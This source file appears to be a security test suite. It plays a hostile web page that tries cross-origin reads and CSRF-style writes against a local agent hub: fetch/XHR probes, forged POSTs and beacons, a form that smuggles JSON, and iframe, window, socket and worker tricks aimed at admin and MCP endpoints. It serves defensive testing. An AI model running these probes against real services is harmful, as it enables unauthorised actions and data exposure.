// What a hostile page may try. Every attempt ends with what the page could read, or with how it failed.

'use strict';

const patience = 5000; // for what never says that it failed

/** All that can be tried against the hub at that address. */
async function attack(hub) {
  const attempts = { ...fetches(hub), ...writes(hub), ...forms(hub), ...elements(hub), ...sockets(hub), ...windows(hub), ...workers(hub) };
  const ended = Object.entries(attempts).map(async ([name, attempt]) => [name, await outcome(attempt)]);
  return Object.fromEntries(await Promise.all(ended));
}

async function outcome(attempt) {
  const late = new Promise((end) => setTimeout(end, patience, 'nothing came'));
  try {
    return String(await Promise.race([attempt(), late]));
  } catch (error) {
    return `failed: ${error.name}`;
  }
}

async function text(answer) {
  return `${answer.type} ${answer.status}: ${await answer.text()}`;
}

const secrets = ['/', '/metrics', '/api/v1/agents', '/api/v1/settings', '/api/v1/openapi.json', '/api/v1/docs', '/api/v1/me', '/api/v1/sign-ins'];

function fetches(hub) {
  const all = {};
  for (const path of secrets) {
    all[`fetch ${path}`] = async () => text(await fetch(hub + path));
    all[`fetch ${path} with credentials`] = async () => text(await fetch(hub + path, { credentials: 'include' }));
    all[`fetch ${path} without CORS`] = async () => text(await fetch(hub + path, { mode: 'no-cors', credentials: 'include' }));
  }
  all['fetch with a header of our own'] = async () => text(await fetch(`${hub}/api/v1/agents`, { headers: { 'x-requested-with': 'us' } }));
  all['fetch with a key'] = async () => text(await fetch(`${hub}/api/v1/agents`, { headers: { authorization: 'Bearer nxs_0' } }));
  all['XMLHttpRequest'] = () =>
    new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.onload = () => done(request.responseText);
      request.onerror = () => fail(new Error());
      request.open('GET', `${hub}/api/v1/agents`);
      request.send();
    });
  return all;
}

const mallory = (n) => JSON.stringify({ agent_id: `mallory-${n}` });

function writes(hub) {
  const agents = `${hub}/api/v1/agents`;
  const post = (url, options) => async () => text(await fetch(url, { method: 'POST', credentials: 'include', ...options }));
  return {
    'POST text': post(agents, { mode: 'no-cors', body: mallory('text') }),
    'POST a form': post(agents, { mode: 'no-cors', body: new URLSearchParams({ agent_id: 'mallory-form' }) }),
    'POST JSON': post(agents, { headers: { 'content-type': 'application/json' }, body: mallory('json') }),
    'POST JSON without CORS': post(agents, { mode: 'no-cors', headers: { 'content-type': 'application/json' }, body: mallory('no-cors') }),
    'POST a blob of JSON': post(agents, { body: new Blob([mallory('blob')], { type: 'application/json' }) }),
    // These need no body and no header that a browser would ask about first.
    'POST nothing': post(`${agents}?agent_id=mallory-nothing`, { mode: 'no-cors' }),
    'POST nothing with CORS': post(`${agents}?agent_id=mallory-cors`, {}),
    'POST nothing to an operation': post(`${hub}/api/v1/op/admin_issue_keys`, { mode: 'no-cors' }),
    'POST to MCP': post(`${hub}/mcp`, { mode: 'no-cors', body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}' }),
    'POST a sign-out': post(`${hub}/api/v1/sign-out`, { mode: 'no-cors' }),
    PATCH: post(`${hub}/api/v1/settings`, { method: 'PATCH', body: '{"trust_mode":"strict"}' }),
    DELETE: post(`${hub}/api/v1/agents/secret-agent`, { method: 'DELETE' }),
    'sendBeacon text': () => navigator.sendBeacon(`${agents}?agent_id=mallory-beacon`, mallory('beacon')),
    'sendBeacon nothing': () => navigator.sendBeacon(`${agents}?agent_id=mallory-beacon-nothing`),
    'sendBeacon JSON': () => navigator.sendBeacon(agents, new Blob([mallory('beacon-json')], { type: 'application/json' })),
  };
}

// A form sends what it likes to where it likes, and the browser adds the cookies it would for a link.
function forms(hub) {
  const submit = (url, enctype, fields, target) => () => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: url, enctype });
    for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value }));
    document.body.append(form);
    if (target) {
      form.target = target;
      form.submit();
      return 'sent';
    }
    const frame = Object.assign(document.createElement('iframe'), { name: `frame-${Math.random()}` });
    return loaded(frame, () => {
      form.target = frame.name;
      form.submit();
    });
  };
  const agents = `${hub}/api/v1/agents`;
  const plain = 'text/plain';
  return {
    'a form': submit(agents, 'application/x-www-form-urlencoded', { agent_id: 'mallory-urlencoded' }),
    'a form with files': submit(agents, 'multipart/form-data', { agent_id: 'mallory-multipart' }),
    'a form that smuggles JSON': submit(agents, plain, { '{"agent_id":"mallory-smuggled","role":"': '"}' }),
    'a form without fields': submit(`${agents}?agent_id=mallory-empty`, plain, {}),
    'a form in a window of its own': submit(`${agents}?agent_id=mallory-window`, plain, {}, '_blank'),
  };
}

/** Puts an element into the page, does something, and says what can be seen of what it loaded. */
function loaded(element, then = () => {}) {
  return new Promise((done) => {
    const look = (event) => {
      let seen = '';
      try {
        seen = element.contentDocument?.documentElement?.outerHTML ?? element.naturalWidth ?? '';
      } catch (error) {
        seen = error.name;
      }
      if (seen === '<html><head></head><body></body></html>' && element.tagName === 'IFRAME') return; // not there yet
      done(`${event.type}: ${seen}`);
    };
    element.onload = look;
    element.onerror = look;
    document.body.append(element);
    then();
  });
}

/** The same for an element that says nothing when it could not load. */
async function lookLater(element) {
  return Promise.race([loaded(element), new Promise((end) => setTimeout(() => end(element.contentDocument?.documentElement?.outerHTML), 1000))]);
}

function elements(hub) {
  const make = (tag, properties) => () => loaded(Object.assign(document.createElement(tag), properties));
  const all = {};
  for (const path of ['/', '/api/v1/agents', '/api/v1/docs']) {
    all[`img ${path}`] = make('img', { src: hub + path });
    all[`script ${path}`] = make('script', { src: hub + path });
    all[`module ${path}`] = make('script', { src: hub + path, type: 'module' });
    all[`stylesheet ${path}`] = make('link', { rel: 'stylesheet', href: hub + path });
    all[`prefetch ${path}`] = make('link', { rel: 'prefetch', href: hub + path });
    all[`iframe ${path}`] = make('iframe', { src: hub + path });
    all[`object ${path}`] = () => lookLater(Object.assign(document.createElement('object'), { data: hub + path }));
    all[`embed ${path}`] = make('embed', { src: hub + path });
    all[`video ${path}`] = make('video', { src: hub + path });
    all[`import ${path}`] = async () => JSON.stringify(await import(hub + path));
  }
  return all;
}

function sockets(hub) {
  const listen = (source) =>
    new Promise((done) => {
      source.onmessage = (event) => done(`message: ${event.data}`);
      source.onopen = () => done('open');
      source.onerror = () => done('refused');
    });
  const ws = hub.replace('http', 'ws');
  return {
    EventSource: () => listen(new EventSource(`${hub}/api/v1/stream`)),
    'EventSource with credentials': () => listen(new EventSource(`${hub}/api/v1/stream`, { withCredentials: true })),
    'WebSocket to the stream': () => listen(new WebSocket(`${ws}/api/v1/stream`)),
    'WebSocket to MCP': () => listen(new WebSocket(`${ws}/mcp`)),
  };
}

function windows(hub) {
  // A window that shows a page of ours is no longer ours to look into; until then it is empty.
  const look = (path) => () =>
    new Promise((done) => {
      const other = window.open(hub + path);
      if (!other) return done('no window');
      addEventListener('message', (event) => done(`message: ${JSON.stringify(event.data)}`));
      const timer = setInterval(() => {
        let seen;
        try {
          seen = other.document.documentElement.outerHTML;
          if (seen === '<html><head></head><body></body></html>') return;
        } catch (error) {
          seen = error.name;
        }
        other.postMessage({ method: 'agents' }, '*');
        other.postMessage('agents', '*');
        clearInterval(timer);
        setTimeout(done, 500, seen); // an answer would come before that
      }, 20);
    });
  return { 'a window of /': look('/'), 'a window of the agents': look('/api/v1/agents'), 'a window of the docs': look('/api/v1/docs') };
}

function workers(hub) {
  return {
    worker: () =>
      new Promise((done) => {
        const code = `try { importScripts(${JSON.stringify(`${hub}/api/v1/agents`)}); postMessage('imported'); } catch (e) { postMessage(e.name); }`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = (event) => done(event.data);
        worker.onerror = () => done('error');
      }),
    'a worker of theirs': () =>
      new Promise((done) => {
        const worker = new Worker(`${hub}/api/v1/agents`);
        worker.onmessage = (event) => done(event.data);
        worker.onerror = () => done('error');
      }),
    'a service worker of theirs': async () => (await navigator.serviceWorker.register(`${hub}/api/v1/agents`)).scope,
    'a service worker of ours': async () => {
      await navigator.serviceWorker.register(`/worker.js?hub=${encodeURIComponent(hub)}`);
      const registration = await navigator.serviceWorker.ready;
      const channel = new MessageChannel();
      const answer = new Promise((done) => (channel.port1.onmessage = (event) => done(event.data)));
      registration.active.postMessage('go', [channel.port2]);
      return answer;
    },
    'a cache': async () => {
      const cache = await caches.open('ours');
      const answer = await fetch(`${hub}/api/v1/agents`, { mode: 'no-cors', credentials: 'include' });
      await cache.put('/ours', answer);
      return text(await cache.match('/ours'));
    },
  };
}
